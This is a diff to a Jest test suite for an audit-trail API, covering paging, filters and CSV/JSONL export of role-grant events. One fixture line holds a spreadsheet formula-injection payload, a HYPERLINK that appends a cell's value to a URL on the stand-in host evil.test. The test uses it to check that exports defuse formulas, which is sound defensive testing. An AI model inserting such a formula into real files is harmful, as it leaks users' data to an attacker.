@@ -7,6 +7,9 @@ jest.setTimeout(60_000);
 
 const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"open")';
 
+/** What the test itself grants; the start has granted what configuration names. */
+const byAdmin = { action: 'role-grant', actor: 'user:default/admin' };
+
 describe.each(TestMongo.engines())('audit trail on %s', engine => {
   let portal: TestPortal;
   let auditor: TestPerson;
@@ -32,7 +35,7 @@ describe.each(TestMongo.engines())('audit trail on %s', engine => {
 
   it('shows auditors what was done, newest first, page by page and by every filter', async () => {
     const first = await auditor.get('/audit/events', {
-      action: 'role-grant',
+      ...byAdmin,
       limit: 2,
     });
     expect(first.body.items.map(({ target }: AuditEvent) => target)).toEqual([
@@ -40,7 +43,7 @@ describe.each(TestMongo.engines())('audit trail on %s', engine => {
       'user:default/employee',
     ]);
     const second = await auditor.get('/audit/events', {
-      action: 'role-grant',
+      ...byAdmin,
       limit: 2,
       cursor: first.body.nextCursor,
     });
@@ -108,7 +111,7 @@ describe.each(TestMongo.engines())('audit trail on %s', engine => {
   it('I2 exports CSV in which nothing is a formula, with who made it and when', async () => {
     const { text, headers } = await auditor.get('/audit/export', {
       format: 'csv',
-      action: 'role-grant',
+      ...byAdmin,
     });
     expect(headers['content-type']).toMatch(/^text\/csv/);
     expect(headers['content-disposition']).toMatch(
@@ -134,7 +137,8 @@ describe.each(TestMongo.engines())('audit trail on %s', engine => {
       .trim()
       .split('\n')
       .map(line => JSON.parse(line));
-    expect(rest.slice(0, 3)).toEqual(await events({ action: 'role-grant' }));
+    const granted = await events({ action: 'role-grant' });
+    expect(rest.slice(0, granted.length)).toEqual(granted);
     const [event] = await events({ action: 'audit-export', limit: 1 });
     expect(event).toMatchObject({
       outcome: 'success',
@@ -143,7 +147,7 @@ describe.each(TestMongo.engines())('audit trail on %s', engine => {
         format: 'jsonl',
         filters: { action: 'role-grant' },
         filterHash: mark.export.filterHash,
-        rows: 3,
+        rows: 7,
       },
     });
   });
